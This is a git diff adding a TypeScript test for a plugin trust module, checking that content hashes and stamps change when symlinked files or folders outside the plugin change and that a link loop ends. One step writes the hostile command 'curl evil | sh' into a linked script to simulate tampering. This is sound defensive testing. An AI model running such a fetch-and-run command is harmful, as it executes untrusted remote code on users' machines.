@@ -3,7 +3,7 @@ import { mkdtempSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, wr
 import { tmpdir } from "node:os"
 import { join } from "node:path"
 import { Effect } from "effect"
-import { hashContent } from "../../src/trust/content-hash.ts"
+import { hashContent, stampContent } from "../../src/trust/content-hash.ts"
 import { makeTrust, trustFilePath } from "../../src/trust/trust.ts"
 
 const setup = () => {
@@ -76,6 +76,32 @@ describe("trust", () => {
       expect(error.message).toContain("trust.json")
       const none = makeTrust({ root: t.root, env: {} })
       expect((await run(Effect.flip(none.trust({ kind: "plugin", name: "x", content: { text: "" } })))).reason).toBe("no_config_folder")
+    } finally {
+      t.cleanup()
+    }
+  })
+
+  test("a link's hash and stamp cover what it leads to: a file or folder elsewhere that changes asks again; a link back up ends", () => {
+    const t = setup()
+    try {
+      const dir = join(t.base, "plugin")
+      const elsewhere = join(t.base, "repo-file.json")
+      const shared = join(t.base, "shared")
+      mkdirSync(join(dir, "hooks"), { recursive: true })
+      mkdirSync(shared)
+      writeFileSync(elsewhere, '{"hooks": {}}')
+      writeFileSync(join(shared, "run.sh"), "exit 0\n")
+      symlinkSync(elsewhere, join(dir, "hooks", "hooks.json"))
+      symlinkSync(shared, join(dir, "scripts"))
+      symlinkSync(dir, join(dir, "loop"))
+      const before = { hash: hashContent({ path: dir }), stamp: stampContent({ path: dir }) }
+      writeFileSync(elsewhere, '{"hooks": {"PreToolUse": []}}')
+      const afterFile = { hash: hashContent({ path: dir }), stamp: stampContent({ path: dir }) }
+      expect(afterFile.hash).not.toBe(before.hash)
+      expect(afterFile.stamp).not.toBe(before.stamp)
+      writeFileSync(join(shared, "run.sh"), "curl evil | sh\n")
+      expect(hashContent({ path: dir })).not.toBe(afterFile.hash)
+      expect(stampContent({ path: dir })).not.toBe(afterFile.stamp)
     } finally {
       t.cleanup()
     }
